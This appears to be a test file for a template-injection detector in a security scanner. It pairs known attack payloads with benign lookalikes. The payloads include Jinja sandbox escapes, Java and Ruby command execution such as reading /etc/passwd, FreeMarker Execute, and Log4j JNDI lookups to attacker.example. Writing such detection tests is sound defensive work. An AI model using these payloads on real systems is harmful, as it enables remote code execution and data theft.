// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are literal template syntax
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import type { ExecutionContext } from '../../core/index.ts';
import {
  assertTotalOnFragments,
  describeSignatureCases,
  QUIET,
  type SignatureCase,
  scanWith,
} from './__fixtures__/signature-cases.ts';
import { templateInjection } from './template-injection.ts';

type Reason = keyof typeof templateInjection.reasons;
const scan = (s: string, context?: ExecutionContext) => scanWith(templateInjection, s, context);

const CASES: readonly SignatureCase<Reason>[] = [
  // ARITHMETIC_PROBE: constants multiplied inside a delimiter; expressions over variables are not.
  { text: '{{7*7}}', expect: { fires: 'ARITHMETIC_PROBE', atLeast: 0.7, below: 0.8 } },
  { text: "{{7*'7'}}", expect: { fires: 'ARITHMETIC_PROBE', atLeast: 0.7, below: 0.8 } },
  { text: '<%= 7*7 %>', expect: { fires: 'ARITHMETIC_PROBE', atLeast: 0.7, below: 0.8 } },
  { text: '#{7*7}', expect: { fires: 'ARITHMETIC_PROBE', atLeast: 0.7, below: 0.8 } },
  { text: '${7*7}', expect: { fires: 'ARITHMETIC_PROBE', atLeast: 0.5, below: 0.7 } },
  { text: '{% for i in items %}{{ i.price * quantity }}{% endfor %}', context: 'code', expect: QUIET },
  { text: 'const age = `max-age=${60 * 60 * 24}`;', context: 'code', expect: QUIET },

  // SANDBOX_ESCAPE: introspection that climbs to builtins; everyday metaprogramming does not.
  { text: "{{ ''.__class__.__mro__[1].__subclasses__() }}", expect: { fires: 'SANDBOX_ESCAPE', atLeast: 0.9 } },
  {
    text: "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    expect: { fires: 'SANDBOX_ESCAPE', atLeast: 0.9 },
  },
  { text: "{{ lipsum|attr('__globals__') }}", expect: { fires: 'SANDBOX_ESCAPE', atLeast: 0.9 } },
  { text: "{{constructor.constructor('alert(1)')()}}", expect: { fires: 'SANDBOX_ESCAPE', atLeast: 0.9 } },
  {
    text: '().__class__.__bases__[0].__subclasses__()',
    context: 'code',
    expect: { fires: 'SANDBOX_ESCAPE', atLeast: 0.85 },
  },
  { text: "__import__('os').system('id')", context: 'code', expect: { fires: 'SANDBOX_ESCAPE', atLeast: 0.85 } },
  { text: 'name = self.__class__.__name__', context: 'code', expect: QUIET },
  { text: 'for sub in cls.__subclasses__():\n    register(sub)', context: 'code', expect: QUIET },
  { text: 'bases = type(obj).__class__.__mro__', context: 'code', expect: { below: 0.6 } },

  // TEMPLATE_CODE_EXEC: code execution inside an expression; calls of ordinary helpers are not.
  { text: "${T(java.lang.Runtime).getRuntime().exec('id')}", expect: { fires: 'TEMPLATE_CODE_EXEC', atLeast: 0.9 } },
  { text: "#{T(java.lang.Runtime).getRuntime().exec('calc')}", expect: { fires: 'TEMPLATE_CODE_EXEC', atLeast: 0.9 } },
  { text: "<%= system('cat /etc/passwd') %>", expect: { fires: 'TEMPLATE_CODE_EXEC', atLeast: 0.9 } },
  { text: '<%= `ls -la` %>', expect: { fires: 'TEMPLATE_CODE_EXEC', atLeast: 0.9 } },
  { text: "{{['id']|filter('system')}}", expect: { fires: 'TEMPLATE_CODE_EXEC', atLeast: 0.9 } },
  {
    text: '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    expect: { fires: 'TEMPLATE_CODE_EXEC', atLeast: 0.9 },
  },
  { text: "{{ url_for('static', filename='app.css') }} {{ csrf_token() }}", context: 'code', expect: QUIET },
  { text: '<%= render "form" %> <%= @post.title %>', context: 'code', expect: QUIET },
  { text: 'const url = `${base}/api/${encodeURIComponent(id)}`;', context: 'code', expect: QUIET },
  { text: 'Process p = Runtime.getRuntime().exec(cmd);', context: 'code', expect: QUIET },

  // JNDI_LOOKUP: Log4j lookups, plain or spelled out; configuration lookups are not.
  { text: '${jndi:ldap://attacker.example/a}', expect: { fires: 'JNDI_LOOKUP', atLeast: 0.9 } },
  {
    text: 'User-Agent: ${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}',
    expect: { fires: 'JNDI_LOOKUP', atLeast: 0.9 },
  },
  { text: '${${lower:j}ndi:dns://x.example/a}', expect: { fires: 'JNDI_LOOKUP', atLeast: 0.9 } },
  { text: 'stage: ${env:STAGE}\nregion: ${opt:region, "eu-west-1"}', context: 'code', expect: QUIET },

  // CONFIG_DISCLOSURE: dumping the application config; reading one named setting is not.
  { text: '{{config}}', expect: { fires: 'CONFIG_DISCLOSURE', atLeast: 0.6 } },
  { text: '{{ config.items() }}', expect: { fires: 'CONFIG_DISCLOSURE', atLeast: 0.8 } },
  { text: '{{ settings.SECRET_KEY }}', expect: { fires: 'CONFIG_DISCLOSURE', atLeast: 0.8 } },
  { text: '<title>{{ config.SITE_NAME }}</title> {{ user.name }}', context: 'code', expect: QUIET },
];

describe('sig.template-injection', () => {
  describeSignatureCases(templateInjection, CASES);

  it('reports a payload once: inside its expression, not again outside it', () => {
    const { findings } = scan("{{ ''.__class__.__mro__[1].__subclasses__() }}");
    assert.deepEqual(
      findings.map((f) => f.reason),
      ['SANDBOX_ESCAPE'],
    );
  });

  it('spans cover the whole expression', () => {
    const { text, findings } = scan('name: {{7*7}} end');
    assert.ok(findings[0]?.span);
    assert.equal(text.matching.slice(findings[0].span[0], findings[0].span[1]), '{{7*7}}');
  });

  it('stays bounded on a megabyte of repeated anchors', () => {
    for (const unit of ['{{', '{{7*7}}', '${', '${${::-j}', '<%', '#{', '__class__.__mro__ ', '{{{']) {
      const { findings } = scan(unit.repeat(Math.ceil(1_000_000 / unit.length)));
      assert.ok(findings.length <= 32 * 11, `${unit}: ${findings.length} findings`);
    }
  });

  it('is total, well-formed and deterministic on arbitrary strings (seed 20261121)', () => {
    const fragments = fc.constantFrom(
      '{{',
      '}}',
      '${',
      '}',
      '#{',
      '<%=',
      '%>',
      '7*7',
      '__class__',
      '.__globals__',
      'jndi:',
      '::-',
      '\n',
    );
    assertTotalOnFragments(templateInjection, fragments);
  });
});
